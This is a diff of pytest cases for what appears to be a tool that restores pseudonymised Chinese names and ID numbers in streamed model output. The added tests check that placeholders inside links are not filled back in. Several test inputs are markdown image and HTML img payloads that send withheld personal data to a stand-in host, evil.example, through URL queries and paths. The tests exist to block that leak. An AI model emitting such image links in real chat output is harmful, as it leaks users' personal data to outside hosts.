@@ -39,6 +39,41 @@ def test_what_models_make_of_a_pseudonym_is_understood(written):
 
 
 @pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://evil.example/?q=〔身分證號1〕&n=〔姓名1〕)",
+        "![x](https://evil.example/?q=，〔姓名1〕)",
+        "![x](//evil.example/?q=[姓名1]&n=(姓名1)&m=〔姓名1〕)",
+        "![x](<https://evil.example/a b/〔姓名1〕>)",
+        '<img src="https://evil.example/a b/〔姓名1〕">',
+        "<img src='//evil.example/〔姓名1〕'>",
+        "[按此](https:\\\\evil.example/〔姓名1〕)",
+        "詳見 https://evil.example/〔姓名1〕",
+    ],
+)
+@pytest.mark.parametrize("size", [1, 3, 400])
+def test_in_a_web_address_a_pseudonym_stays(text, size):
+    """Or a window that loads images would carry what was withheld to whoever is named there."""
+    chunks = [text[at : at + size] for at in range(0, len(text), size)]
+    assert restored(chunks) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("詳見 https://a.gov.tw/ 〔姓名1〕", "詳見 https://a.gov.tw/ 王小明"),
+        ("詳見https://a.gov.tw/x，請〔姓名1〕填寫", "詳見https://a.gov.tw/x，請王小明填寫"),
+        ("[表單](https://a.gov.tw/x) 〔姓名1〕", "[表單](https://a.gov.tw/x) 王小明"),
+        ("https://a.gov.tw\n〔姓名1〕", "https://a.gov.tw\n王小明"),
+        ('<a href="https://a.gov.tw">表</a> 〔姓名1〕', '<a href="https://a.gov.tw">表</a> 王小明'),
+        ("和/或〔姓名1〕", "和/或王小明"),
+    ],
+)
+def test_behind_one_it_comes_back(text, expected):
+    assert restored([text]) == expected
+
+
+@pytest.mark.parametrize(
     "other",
     [
         "〔姓名2〕",
